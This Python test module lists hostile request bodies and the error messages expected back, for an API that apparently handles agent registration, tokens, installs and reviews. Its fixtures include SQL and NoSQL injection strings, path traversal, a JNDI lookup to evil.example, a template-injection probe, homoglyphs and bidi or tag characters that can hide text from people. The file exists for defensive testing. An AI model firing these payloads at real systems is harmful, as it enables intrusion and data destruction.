"""Hostile values of known fields: each row is one body and the text of its error."""

import json

from tests.api.request_cases import (
    CONFIRM,
    INSTALL_PERSONA,
    INSTALL_SKILL,
    ME,
    REGISTER,
    REVIEWS,
    REVOKE,
    ROTATE,
    TOKENS,
    name_of,
    with_body,
)

SCOPES = "scopes must be a list of one or more of read, install, review, clone, submit"
WHOLE = "must be a whole number from"
RATING = "Rating must be between 1 and 5"
SHAPE = "handle must be a-z, 0-9 and single hyphens between them"
SKILL_404 = "Skill not found"
PERSONA_404 = "Persona not found"
INJECTION = "'; DROP TABLE agents_agent; --"

# Line breaks, the start of escape sequences, separators, bidirectional overrides and isolates, and
# tags, which can hide a text for models from people.
CONTROLS = ["\n", "\t", "\x1b", "\x7f", "\x85", "\x9b", "\u2028", "\u2029"]
CONTROLS += ["\u202a", "\u202e", "\u2066", "\u2069", "\U000e0000", "\U000e0041", "\U000e007f"]
CONTROLS += ["\ufffe", "\uffff", "\U000e0100"]

INVALID = [
    *(
        (
            path,
            json.dumps({"name": f"Night{control}Owl"}),
            "name must not contain control characters",
        )
        for path in (REGISTER, ME, TOKENS)
        for control in CONTROLS
    ),
    (
        ME,
        r'{"name": "a\u202eb", "description": 5}',
        "name must not contain control characters; description must be a string",
    ),
    (REGISTER, '{"name": 5}', "name must be a string"),
    (REGISTER, '{"name": true}', "name must be a string"),
    (REGISTER, '{"name": ["Mallory"]}', "name must be a string"),
    (REGISTER, '{"name": {"$ne": null}}', "name must be a string"),
    (REGISTER, '{"name": ""}', "name must not be blank"),
    (REGISTER, '{"name": " \\t\\n"}', None),
    (REGISTER, '{"name": " \u3000 "}', "name must not be blank"),
    (REGISTER, '{"name": "' + "x" * 81 + '"}', "name must be at most 80 characters"),
    (REGISTER, '{"name": "' + "é" * 30_000 + '"}', "name must be at most 80 characters"),
    (REGISTER, r'{"name": "a\u0000b"}', None),
    (REGISTER, r'{"name": "\ud83d"}', None),
    (REGISTER, '{"description": 1.5}', "description must be a string"),
    (
        REGISTER,
        '{"description": "' + "x" * 501 + '"}',
        "description must be at most 500 characters",
    ),
    (REGISTER, '{"runtime": false}', "runtime must be a string"),
    (REGISTER, '{"runtime": "' + "x" * 65 + '"}', "runtime must be at most 64 characters"),
    (REGISTER, '{"handle": 12345}', "handle must be a string"),
    (REGISTER, '{"handle": ["a-handle"]}', "handle must be a string"),
    (REGISTER, '{"handle": "ab"}', "handle must be at least 3 characters"),
    (REGISTER, '{"handle": "' + "a" * 40 + '"}', "handle must be at most 39 characters"),
    (REGISTER, '{"handle": "-abc"}', SHAPE),
    (REGISTER, '{"handle": "abc-"}', SHAPE),
    (REGISTER, '{"handle": "a--b"}', SHAPE),
    (REGISTER, '{"handle": "Abc"}', SHAPE),
    (REGISTER, '{"handle": "a_b"}', SHAPE),
    (REGISTER, '{"handle": "аdmin"}', SHAPE),  # noqa: RUF001 (a Cyrillic a)
    (REGISTER, '{"handle": "١٢٣"}', SHAPE),
    (REGISTER, r'{"handle": "abc\n"}', SHAPE),
    (REGISTER, r'{"handle": "abc\u0000"}', None),
    (REGISTER, f'{{"handle": "{INJECTION}"}}', SHAPE),
    (REGISTER, '{"handle": "../../etc"}', SHAPE),
    (REGISTER, '{"handle": "admin"}', "handle is reserved"),
    (
        REGISTER,
        '{"name": 5, "handle": false, "description": [], "runtime": {}}',
        "; ".join(
            f"{name} must be a string" for name in ("name", "description", "runtime", "handle")
        ),
    ),
    (ME, '{"name": 5}', "name must be a string"),
    (ME, '{"name": ""}', "name must not be blank"),
    (ME, '{"name": 1, "handle": "x"}', "name must be a string; handle cannot be changed"),
    (ME, '{"description": "' + "x" * 501 + '"}', "description must be at most 500 characters"),
    (ME, '{"name": "' + "x" * 81 + '"}', "name must be at most 80 characters"),
    (ME, '{"description": ["x"]}', "description must be a string"),
    (ME, '{"name": "Mallory", "runtime": 3}', "runtime must be a string"),
    (ME, r'{"description": "\u0000"}', None),
    (ME, '{"handle": "mallory"}', "handle cannot be changed"),
    (ME, '{"name": "Mallory", "handle": 5}', "handle cannot be changed"),
    (ME, '{"handle": "caller"}', "handle cannot be changed"),
    (CONFIRM, "{}", "code is required"),
    (CONFIRM, '{"code": null}', "code is required"),
    (CONFIRM, '{"Code": "WDJB-MJHT"}', "code is required"),
    (CONFIRM, '{"code": 12345678}', "code must be a string"),
    (CONFIRM, '{"code": true}', "code must be a string"),
    (CONFIRM, '{"code": ["WDJB-MJHT"]}', "code must be a string"),
    (CONFIRM, '{"code": {"$gt": ""}}', "code must be a string"),
    (CONFIRM, r'{"code": "WDJB-MJHT\u0000"}', None),
    (TOKENS, '{"name": 5}', "name must be a string"),
    (TOKENS, '{"name": "' + "x" * 81 + '"}', "name must be at most 80 characters"),
    (TOKENS, r'{"name": "\u0000"}', None),
    *(
        (TOKENS, f'{{"scopes": {value}}}', SCOPES)
        for value in (
            *("[]", "{}", '"read"', "true", "0", '["admin"]', '["read", "READ"]', '["read "]'),
            *("[null]", '[["read"]]', '[{"read": 1}]', '{"read": true}', '["read", true]'),
        )
    ),
    *(
        (TOKENS, f'{{"expiresInDays": {value}}}', f"expiresInDays {WHOLE} 1 to 365")
        for value in ("0", "-1", "366", "1.0", "1e0", "true", '"1"', "[1]", "{}", "9" * 4000)
    ),
    (TOKENS, '{"expiresInDays": 1e400}', None),
    *(
        (ROTATE, f'{{"graceSeconds": {value}}}', f"graceSeconds {WHOLE} 0 to 86400")
        for value in ("-1", "86401", "0.0", "-0.0", "1e1", "false", '""', '"60"', "[]", "9" * 4000)
    ),
    (REVOKE, "{}", "token is required"),
    (REVOKE, '{"token": null}', "token is required"),
    (REVOKE, '{"Token": "x"}', "token is required"),
    *(
        (REVOKE, f'{{"token": {value}}}', "token must be a string")
        for value in ("5", "true", "[]", '["x"]', '{"$ne": null}')
    ),
    (REVOKE, r'{"token": "\u0000"}', None),
    (REVOKE, r'{"token": "\udc00"}', None),
    (INSTALL_SKILL, "{}", "slug is required"),
    (INSTALL_SKILL, '{"slug": null}', "slug is required"),
    (INSTALL_SKILL, '{"slug": 5}', "slug must be a string"),
    (INSTALL_SKILL, '{"slug": true}', "slug must be a string"),
    (INSTALL_SKILL, '{"slug": ["pdf-tables"]}', "slug must be a string"),
    (INSTALL_SKILL, '{"slug": {"pdf-tables": 1}}', "slug must be a string"),
    (INSTALL_SKILL, '{"skill": "pdf-tables"}', "slug is required"),
    (INSTALL_SKILL, '{"slug": ""}', "slug is required"),
    (
        INSTALL_SKILL,
        r'{"slug": "pdf-tables\u0000"}',
        "Request body must not contain NUL characters",
    ),
    (INSTALL_SKILL, r'{"runtime": "\ud800"}', "Request body must not contain lone surrogates"),
    (INSTALL_SKILL, '{"slug": "pdf-tables", "runtime": 3.12}', "runtime must be a string"),
    (
        INSTALL_SKILL,
        '{"slug": 5, "runtime": {"name": "x"}}',
        "slug must be a string; runtime must be a string",
    ),
    (INSTALL_PERSONA, "{}", "slug is required"),
    (INSTALL_PERSONA, '{"slug": 5}', "slug must be a string"),
    *(
        (
            INSTALL_PERSONA,
            f'{{"slug": "archivist", "setActive": {value}}}',
            "setActive must be a boolean",
        )
        for value in ('"true"', '"false"', '""', "1", "0", "1.0", "[]", "[true]", "{}")
    ),
    (
        INSTALL_PERSONA,
        '{"setActive": "yes"}',
        "slug is required; setActive must be a boolean",
    ),
    (REVIEWS, "{}", f"{RATING}; personaSlug is required"),
    (REVIEWS, '{"personaSlug": "librarian"}', RATING),
    *(
        (REVIEWS, f'{{"personaSlug": "librarian", "rating": {value}}}', RATING)
        for value in (
            *("null", "true", "false", '"5"', '"five"', '""', "[]", "[5]", "{}"),
            *("0", "-0", "-0.0", "-1", "6", "0.99", "0.9999999", "5.01", "5.0000001"),
            *("1e-5", "5e1", "1e308", "-1e308", "9" * 4000, "-" + "9" * 4000, "9" * 20),
        )
    ),
    # Out of range, or not JSON: a 400 with either text.
    *(
        (REVIEWS, f'{{"personaSlug": "librarian", "rating": {value}}}', None)
        for value in ("NaN", "Infinity", "1e400", "-1e400", "9" * 5000, "5,0", "٥")  # noqa: RUF001
    ),
    (REVIEWS, '{"rating": 5}', "personaSlug is required"),
    (REVIEWS, '{"rating": 5, "personaSlug": 7}', "personaSlug must be a string"),
    (REVIEWS, '{"rating": 5, "slug": "librarian"}', "personaSlug is required"),
    (REVIEWS, '{@, "comment": 5}', "comment must be a string"),
    (REVIEWS, '{@, "comment": ["x"]}', "comment must be a string"),
    (REVIEWS, '{@, "comment": "' + "x" * 1001 + '"}', "comment must be at most 1000 characters"),
    (REVIEWS, '{@, "comment": "' + "é" * 30_000 + '"}', "comment must be at most 1000 characters"),
    (REVIEWS, r'{@, "comment": "\u0000"}', None),
    (REVIEWS, r'{@, "comment": "\udc00"}', None),
    (
        REVIEWS,
        '{"personaSlug": "librarian", "rating": 9, "comment": "' + "x" * 1001 + '"}',
        f"{RATING}; comment must be at most 1000 characters",
    ),
    (
        REVIEWS,
        '{"comment": 5, "personaSlug": [], "rating": 9}',
        f"{RATING}; personaSlug must be a string; comment must be a string",
    ),
]
NO_SLUGS = [
    "no-such-slug",
    INJECTION,
    "pdf-tables' OR '1'='1",
    "PDF-TABLES",
    " pdf-tables",
    r"pdf-tables\n",
    "pdf-tables/",
    "../skills/pdf-tables",
    "%70df-tables",
    "pdf%",
    "_" * 10,
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "ｐｄｆ-tables",  # noqa: RUF001
    "pdf\u2011tables",
    r"\ud83d\ude00",
    "x" * 60_000,
]
FIELDS = [
    (f"{name_of(path)} {body[:50]}", [with_body(path, body, 400, error)])
    for path, body, error in INVALID
]
UNKNOWN_SLUGS = [
    (
        slug[:50],
        [
            with_body(INSTALL_SKILL, f'{{"slug": "{slug}"}}', 404, SKILL_404),
            with_body(INSTALL_PERSONA, f'{{"slug": "{slug}"}}', 404, PERSONA_404),
            with_body(REVIEWS, f'{{"personaSlug": "{slug}", "rating": 5}}', 404, PERSONA_404),
        ],
    )
    for slug in NO_SLUGS
]
